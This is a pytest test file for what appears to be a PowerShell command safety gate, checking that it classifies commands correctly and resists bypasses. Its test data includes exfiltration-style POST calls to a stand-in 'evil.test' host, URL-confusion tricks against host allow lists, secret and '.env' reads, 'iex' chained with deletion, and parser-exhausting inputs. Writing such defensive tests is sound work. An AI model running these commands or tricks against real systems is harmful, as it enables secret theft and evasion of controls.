from __future__ import annotations

import io
import json
import time
from pathlib import Path

import pytest

import psemu
from psemu.catalog import default_catalog
from psemu.cli import main
from psemu.errors import ConfigurationError
from psemu.gate import classify
from psemu.gate.policy import Policy, read_policy
from psemu.gate.session import serve_lines
from tests.gate import measure
from tests.gate.cases import harmless, hostile

BYPASS = hostile()


def test_there_are_many() -> None:
    assert len(BYPASS) >= 1_500
    assert len({text for _, text in BYPASS}) == len(BYPASS)


@pytest.mark.parametrize(("why", "text"), BYPASS)
def test_no_bypass(why: str, text: str) -> None:
    answer = classify(text)
    assert answer.verdict != "read", why
    assert any(reason.verdict == answer.verdict and reason.why for reason in answer.reasons)


HARMLESS = [
    "",
    "Get-Date",
    "get-childitem C:\\logs -Recurse | Where-Object { $_.Length -gt 1MB } | Select-Object Name, Length | Sort-Object Length -Descending",
    "Get-ChildItem -Path . -Filter *.ps1 | Measure-Object | Select-Object -ExpandProperty Count",
    "$p = Get-Process\n$p | Group-Object ProcessName | Format-Table -AutoSize",
    "$h = @{ Path = 'a'; Recurse = $true }\n$h.Filter = '*.txt'\nGet-ChildItem @h 2>$null",
    "foreach ($i in 1..3) { if ($i -gt 1) { \"$i of $([math]::Round(3.5))\" } else { 'none' } }",
    "function Get-Own([string]$Name) { $Name.ToUpper() }\nGet-Own 'a'",
    "Get-MgServicePrincipal -Filter \"displayName eq 'a'\" | Select-Object DisplayName, AppId",
    "Get-MgServicePrincipalSynchronizationJob -ServicePrincipalId $sp.Id | Format-List",
    "Get-AzRecoveryServicesVault -Name v | Get-AzRecoveryServicesAsrFabric",
    "Get-Content -Path readme.md -TotalCount 5 | ConvertFrom-Json | ForEach-Object Name",
    "'a b'.Split(' ') -join ','; (Get-Date).AddDays(-7).ToString('yyyy')",
    "try { Get-Item x -ErrorAction Stop } catch { Write-Warning $_.Exception.Message }",
    "Test-Connection www.example.com -Count 1",
    "[pscustomobject]@{ A = 1 } | ConvertTo-Json -Depth 3",
    "1..5 | ForEach-Object { [int]$_ * 2 } | Out-String",
]


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless(text: str) -> None:
    answer = classify(text)
    assert answer.verdict == "read", answer.reasons


def test_published_pages(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PSEMU_HOME", str(tmp_path))
    texts = harmless()
    if not measure.add_published_pages(tmp_path, [*texts, *(text for _, text in BYPASS)]):
        pytest.skip("PSEMU_SHARED does not name the folder of the published pages")
    catalog = default_catalog()
    assert len(texts) >= 250
    assert len(measure.verdicts(catalog, texts)) <= len(texts) * 0.05
    assert [text for _, text in BYPASS if classify(text, catalog).verdict == "read"] == []


VERDICTS = [
    ("Remove-Item x", "destructive"),
    ("Get-Date > x", "write"),
    ("$env:API_TOKEN", "secret"),
    ("iex x", "unknown"),
    ("iex x; Remove-Item y", "destructive"),
    ("Start-MgServicePrincipalSynchronizationJob -ServicePrincipalId a -SynchronizationJobId b", "write"),
    ("Remove-MgServicePrincipalSynchronizationJob -ServicePrincipalId a -SynchronizationJobId b", "destructive"),
    ("Invoke-RestMethod https://a.b -Method Delete", "destructive"),
    ("Invoke-RestMethod https://example.com/status", "secret"),
    ("while ($true) { Get-Date }", "unknown"),
    ("while ($true) { if ((Get-Date).Hour) { break } }", "read"),
    ("Invoke-RestMethod https://a.b -Method Post -Body x", "write"),
]


@pytest.mark.parametrize(("text", "verdict"), VERDICTS)
def test_verdicts(text: str, verdict: str) -> None:
    assert psemu.classify(text).verdict == verdict


SIZES = [
    "(" * 5000 + ")" * 5000,
    "$(" * 2000 + ")" * 2000,
    "Get-Date;" * 5000,
    "a" * 300_000,
    "{" * 100_000,
    "1" + "|%{$_}" * 20_000,
    "'a'" + ".Trim()" * 20_000,
    "$h=@{};$h.a=1;" * 5_000,
    "$_,$_,$_|%{" * 60 + "$_.Replace(1,2)" + "}" * 60,
    ";".join(f'$v{i}="' + f"$v{i + 1}" * 300 + '"' for i in range(30)) + ";gc $v0",
    "gc '" + ".env" * 30_000 + "'",
    "sls -Path a -Pattern '" + "[" * 100_000 + "'",
    "".join(f"function a{i}{{a{i + 1}}};" for i in range(3_000)),
    "#requires -version 7\n" * 9_000,
    "<#" + "#requires " * 18_000 + "#>1",
    "$f = gci;" + "gc $f;" * 8_000,
]


@pytest.mark.parametrize("text", SIZES, ids=range(len(SIZES)))
def test_hostile_sizes_end(text: str) -> None:
    began = time.process_time()
    assert classify(text).verdict in ("read", "secret", "unknown")
    assert time.process_time() - began < 5


def test_too_long_is_not_judged() -> None:
    assert classify("Get-Date;" * 50_000).verdict == "unknown"


def test_cli(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["gate", "Get-Date"]) == 0
    assert main(["gate", "Get-Date; Remove-Item x"]) == 1
    assert "1:11 destructive Remove-Item x" in capsys.readouterr().out
    assert main(["gate", "--json", "Get-Date > x"]) == 1
    answer = json.loads(capsys.readouterr().out)
    assert (answer["verdict"], answer["allowed"]) == ("write", False)
    assert main(["gate"]) == 2


def test_stdio_answers_each_line() -> None:
    lines = [
        b'{"id": 7, "text": "Get-Date"}',
        b"nonsense",
        b"[]",
        b'{"text": 1}',
        b"",
        b'{"id": 1, "text": "Get-Date", "x": "\xff"}',
        b'{"id": NaN, "text": "Get-Date"}',
        b"[" * 100_000,
        b'{"id": "s", "text": "\\ud800 Get-Date"}',
        b'{"id": {"a": [1]}, "text": ""}',
        b'{"text": "' + b"a" * 5_000_000 + b'"}',
        b'{"id": 8, "text": "Remove-Item x"}',
    ]
    said = io.StringIO()
    serve_lines(io.BytesIO(b"\n".join(lines)), said, default_catalog(), Policy())
    answers = [json.loads(line) for line in said.getvalue().splitlines()]
    refused = (None, "unknown", False)
    assert [(a["id"], a["verdict"], a["allowed"]) for a in answers] == [
        (7, "read", True),
        refused,
        refused,
        refused,
        refused,
        refused,
        refused,
        ("s", "unknown", False),
        ({"a": [1]}, "read", True),
        refused,
        (8, "destructive", False),
    ]
    assert all(("error" in answer) == (answer["id"] is None) for answer in answers)


MISTAKES = [
    (b'{"id": 1, "text": "Get-Date", "text": "rm x"}', "a key is there twice"),
    (b'{"id": 1e999, "text": ""}', "no number of JSON"),
    (b'{"id": 1, "text": "\xff"}', "byte 19 of this one is no UTF-8"),
    (b'{"a": ' * 90_000, "nested too deeply"),
    (b"null", "no object"),
    (b'{"id": 3}', 'no "text"'),
    (b'{"id": 3, "text": ["Get-Date"]}', 'no "text"'),
    (b'{"id": 3, "text"', "no JSON"),
    (b'{"id": ' + b"9" * 9_000 + b', "text": ""}', "no JSON"),
    (b"\x00", "no JSON"),
]


@pytest.mark.parametrize(("line", "said"), MISTAKES)
def test_stdio_says_what_is_wrong_with_a_line(line: bytes, said: str) -> None:
    written = io.StringIO()
    serve_lines(io.BytesIO(b"\xef\xbb\xbf" + line + b'\n{"id": 2, "text": ""}'), written, default_catalog(), Policy())
    refused, answered = map(json.loads, written.getvalue().splitlines())
    assert (refused["verdict"], refused["allowed"], refused["reasons"]) == ("unknown", False, [])
    assert said in refused["error"]
    assert refused["id"] == (3 if "text" in said and b'"id": 3' in line else None)
    assert answered == {"id": 2, "verdict": "read", "reasons": [], "allowed": True}


def test_a_stream_takes_no_line(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["gate", "--stdio", "Get-Date"]) == 2
    assert "either a line or --stdio" in capsys.readouterr().err


POLICY = """
[allow]
verdicts = ["read", "secret"]
commands = ["Start-Mg*", "Invoke-RestMethod", "Get-Thing", "Set-Alias"]
modules = ["Az.*"]
hosts = ["*.example.com", "example.com"]
[allow.parameters.Start-MgServicePrincipalSynchronizationJob]
ServicePrincipalId = ["abc-*"]
[deny]
commands = ["Get-History"]
"""
START = "Start-MgServicePrincipalSynchronizationJob -SynchronizationJobId b -ServicePrincipalId "


def test_policy(tmp_path: Path) -> None:
    path = tmp_path / "policy.toml"
    path.write_text(POLICY)
    policy = read_policy(str(path))

    def allows(text: str) -> bool:
        return policy.allows(classify(text))

    assert allows("$env:API_TOKEN")
    assert not allows("Get-History")
    assert allows(START + "abc-1")
    assert not allows(START + "xyz")
    assert not allows(START + "$x")
    assert allows("Invoke-RestMethod https://www.example.com/a -Method Post -Body x")
    assert allows("Invoke-RestMethod https://www.example.com/a")
    assert not allows("Invoke-RestMethod https://evil.test/www.example.com -Method Post -Body x")
    assert not allows("Remove-Item x")
    for address in (
        "$u",
        "'https://evil.test\\@www.example.com'",
        "https://www.example.com@evil.test/",
        "https://evil.test:443/www.example.com",
    ):
        assert not allows(f"Invoke-RestMethod {address} -Method Post -Body x"), address
    assert not allows("Invoke-RestMethod https://www.example.com/a -Method $m")
    assert not allows("Set-Alias Get-Date Start-MgX")
    assert not allows(START + "abc-1; iex x")
    for bad in ("x = 1", "[allow]\nnope = []", "[allow]\ncommands = 'a'", "[allow]\nverdicts = ['unknown']", "[allow"):
        path.write_text(bad)
        with pytest.raises(ConfigurationError):
            read_policy(str(path))


THING = """---
Module Name: Things
external help file: Things-help.xml
schema: 2.0.0
---

# Get-Thing

## SYNOPSIS
Gets things of a machine.

## SYNTAX

```
Get-Thing [[-ComputerName] <String[]>] [<CommonParameters>]
```

## PARAMETERS

### -ComputerName
The machine.

```yaml
Type: String[]
Parameter Sets: (All)
Aliases:

Required: False
Position: 0
Default value: None
Accept pipeline input: False
Accept wildcard characters: False
```
"""


def test_policy_names_the_machines(tmp_path: Path) -> None:
    page, path = tmp_path / "Get-Thing.md", tmp_path / "policy.toml"
    page.write_text(THING)
    catalog = default_catalog()
    catalog.add_path(str(page))

    def allows(text: str, policy: str) -> bool:
        path.write_text(policy)
        return read_policy(str(path)).allows(classify(text, catalog))

    named = '[allow]\ncommands = ["Get-Thing"]\n'
    hosts = named + 'hosts = ["*.example.com"]\n'
    assert classify("Get-Thing", catalog).verdict == "read"
    assert classify("Get-Thing a.example.com", catalog).verdict == "unknown"
    assert allows("Get-Thing a.example.com, b.example.com", hosts)
    assert not allows("Get-Thing a.example.com", named)
    assert not allows("Get-Thing a.example.com", '[allow]\nhosts = ["*"]\n')
    for machines in ("a.example.com, evil", "$x", "evil/x.example.com", "(gc a)", "('a' + '.example.com')"):
        assert not allows(f"Get-Thing {machines}", hosts), machines
